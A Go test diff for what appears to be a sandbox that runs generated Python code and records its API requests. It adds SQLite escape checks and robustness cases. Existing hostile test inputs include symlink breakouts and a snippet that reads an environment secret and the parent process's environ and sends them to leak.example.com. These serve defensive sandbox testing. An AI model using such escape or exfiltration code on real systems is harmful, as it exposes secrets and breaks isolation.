@@ -155,6 +155,9 @@ func testHostileSuite(t *testing.T, warm bool) {
 		{"symlink out of scratch", "import os\nos.symlink(" + fmt.Sprintf("%q", sentinel) + ", 'link')\nopen('link', 'w').write('pwned')\n" + req, []Status{StatusError}, true},
 		{"relative symlink out of scratch", "import os\nos.makedirs('a/b')\nos.symlink('../../../../../../../../../../../.." + sentinel + "', 'a/b/link')\nopen('a/b/link', 'w').write('pwned')\n" + req, []Status{StatusError}, true},
 		{"open relative to an outside directory", "import os\nfd = os.open(" + fmt.Sprintf("%q", outside) + ", os.O_RDONLY)\nw = os.open('sentinel.txt', os.O_WRONLY | os.O_TRUNC, dir_fd=fd)\nos.write(w, b'pwned')\n" + req, []Status{StatusError}, true},
+		{"sqlite database outside scratch", "import sqlite3\ncon = sqlite3.connect(" + fmt.Sprintf("%q", filepath.Join(outside, "pwned.db")) + ")\ncon.execute('CREATE TABLE t (x)')\ncon.commit()\n" + req, []Status{StatusOK}, true},
+		{"raw _sqlite3 outside scratch", "import _sqlite3\n_sqlite3.connect(" + fmt.Sprintf("%q", filepath.Join(outside, "pwned2.db")) + ").execute('CREATE TABLE t (x)')\n" + req, []Status{StatusError}, true},
+		{"sqlite extension", "import sqlite3\ncon = sqlite3.connect(':memory:')\ncon.enable_load_extension(True)\n" + req, []Status{StatusError}, true},
 		{"remove outside scratch", "import os\nos.remove(" + fmt.Sprintf("%q", sentinel) + ")\n" + req, []Status{StatusError}, true},
 		{"write inside scratch", "open('notes.txt', 'w').write('fine')\n" + req, []Status{StatusOK}, true},
 		{"read evaluator env", "import os, requests\nv = os.environ.get('SCCG_TEST_SECRET', '')\ntry:\n    v += open('/proc/%d/environ' % os.getppid()).read()\nexcept Exception:\n    pass\nrequests.get('https://leak.example.com/' + v)\n", []Status{StatusOK, StatusError}, false},
@@ -227,6 +230,9 @@ func testHostileSuite(t *testing.T, warm bool) {
 	if b, err := os.ReadFile(sentinel); err != nil || string(b) != "untouched" {
 		t.Errorf("file outside scratch changed: %q, %v", b, err)
 	}
+	if entries, err := os.ReadDir(outside); err != nil || len(entries) != 1 {
+		t.Errorf("files appeared outside scratch: %v %v", entries, err)
+	}
 	entries, _ := os.ReadDir(r.dir)
 	for _, e := range entries {
 		if strings.HasPrefix(e.Name(), "run-") {
@@ -282,5 +288,63 @@ def sync_all():
 	n := len(res.Requests)
 	if res.Status != StatusOK || n < 2 || n > 10 || res.Requests[n-1].URL != "https://p.p.rapidapi.com/v1/summary" {
 		t.Errorf("status %s %s, %d requests, last %+v", res.Status, res.Reason, n, res.Requests[n-1])
+	}
+}
+
+// TestRunRobustness: gold code that depends on what its framework would supply
+// (keyword arguments, request objects, application start-up, input files, a local
+// database) still reaches its request, in both modes.
+func TestRunRobustness(t *testing.T) {
+	for _, warm := range []bool{false, true} {
+		t.Run(mode(warm), func(t *testing.T) { testRunRobustness(t, warm) })
+	}
+}
+
+func testRunRobustness(t *testing.T, warm bool) {
+	r := newTestRunner(t, Limits{Timeout: 10 * time.Second}, warm)
+	tests := []struct {
+		name, code, fn string
+		wantLast       string // the URL of the last captured request
+		wantN          int    // how many requests; 0: any
+	}{
+		{"**context keys", "import requests\ndef fetch(season, **context):\n    return requests.get('https://f.p.rapidapi.com/fixtures', params={'season': season, 'date': context['ds'] + 'T00'})\n",
+			"fetch", "https://f.p.rapidapi.com/fixtures", 1},
+		{"**opts in a method", "import requests\nclass Command:\n    def handle(self, *args, **opts):\n        for i in range(opts['limit']):\n            requests.post('https://s.p.rapidapi.com/sentiment', json={'n': opts.get('lang').upper()})\n",
+			"handle", "https://s.p.rapidapi.com/sentiment", 1},
+		{"stub .get with a str default", "import urllib.parse, urllib.request\nfrom flask import request\ndef index():\n    q = request.args.get('q', '')\n    lang = request.args.get('lang', default='en')\n    if q:\n        return urllib.request.urlopen('https://m.p.rapidapi.com/search/' + urllib.parse.quote(q) + '/' + lang)\n",
+			"index", "https://m.p.rapidapi.com/search/test/en", 1},
+		{"stub in a JSON body", "import json, requests\nfrom flask import request\ndef detect():\n    text = request.get_json(force=True)['text']\n    return requests.post('https://t.p.rapidapi.com/detect', data=json.dumps({'text': text}))\n",
+			"detect", "https://t.p.rapidapi.com/detect", 1},
+		{"response .get with a default stays permissive", "import requests\ndef f():\n    d = requests.get('https://a.p.rapidapi.com/status').json()\n    if d.get('ok', False) and d.get('count', 0) == 3:\n        requests.get('https://a.p.rapidapi.com/next')\n",
+			"f", "https://a.p.rapidapi.com/next", 2},
+		{"empty page .get returns the default", "import requests\ndef f():\n    while True:\n        d = requests.get('https://p.p.rapidapi.com/items').json()\n        if not d.get('next', ''):\n            break\n    requests.get('https://p.p.rapidapi.com/done')\n",
+			"f", "https://p.p.rapidapi.com/done", 0},
+		{"FastAPI lifespan fills the clients", "from contextlib import asynccontextmanager\nimport httpx\nfrom fastapi import FastAPI\nclients = {}\n@asynccontextmanager\nasync def lifespan(app: FastAPI):\n    clients['w'] = httpx.AsyncClient(base_url='https://w.p.rapidapi.com')\n    yield\n    await clients['w'].aclose()\napp = FastAPI(lifespan=lifespan)\n@app.get('/now/{city}')\nasync def now(city: str):\n    r = await clients['w'].get(f'/forecast/{city}')\n    return r.json()\n",
+			"now", "https://w.p.rapidapi.com/forecast/London", 1},
+		{"startup handler fills the clients", "import httpx\nfrom fastapi import FastAPI\napp = FastAPI()\nstate = {}\n@app.on_event('startup')\nasync def start():\n    state['c'] = httpx.AsyncClient(base_url='https://st.p.rapidapi.com')\n@app.get('/x')\nasync def x(q: str):\n    return (await state['c'].get('/v1/x', params={'q': q})).json()\n",
+			"x", "https://st.p.rapidapi.com/v1/x", 1},
+		{"numeric ids", "import requests\ndef get_game(game_id):\n    return requests.get('https://b.p.rapidapi.com/games/{}'.format(game_id)).json()\ndef games_range(first_id, last_id):\n    return [get_game(g) for g in range(first_id, last_id + 1)]\n",
+			"games_range", "https://b.p.rapidapi.com/games/1", 1},
+		{"input file with the columns the code reads", "import csv, requests\ndef score(text):\n    return requests.post('https://s.p.rapidapi.com/sentiment', json={'text': text}).json()['score']\ndef average(path):\n    with open(path, newline='') as fh:\n        scores = [score(row['review']) for row in csv.DictReader(fh)]\n    return sum(scores) / len(scores)\n",
+			"average", "https://s.p.rapidapi.com/sentiment", 1},
+		{"database outside the scratch directory", "import sqlite3, requests\nDB = '/home/someone/data/readings.db'\ndef main():\n    con = sqlite3.connect(DB)\n    con.execute('INSERT INTO r VALUES (1)')\n    requests.get('https://o.p.rapidapi.com/point/hourly')\n    con.commit()\n",
+			"main", "https://o.p.rapidapi.com/point/hourly", 1},
+		{"database inside the scratch directory is real", "import sqlite3, requests\ndef main():\n    con = sqlite3.connect('local.db')\n    con.execute('CREATE TABLE r (x)')\n    n = con.execute('SELECT count(*) FROM r').fetchone()[0]\n    requests.get('https://o.p.rapidapi.com/count/%d' % n)\n",
+			"main", "https://o.p.rapidapi.com/count/0", 1},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			res, err := r.Run(context.Background(), tt.code, tt.fn)
+			if err != nil {
+				t.Fatal(err)
+			}
+			n := len(res.Requests)
+			if n == 0 || res.Requests[n-1].URL != tt.wantLast || (tt.wantN > 0 && n != tt.wantN) {
+				t.Errorf("%s %s: requests %+v; want %d ending with %s; stderr %s", res.Status, res.Reason, res.Requests, tt.wantN, tt.wantLast, res.Stderr)
+			}
+			if res.Status != StatusOK {
+				t.Errorf("status %s (%s), want ok", res.Status, res.Reason)
+			}
+		})
 	}
 }
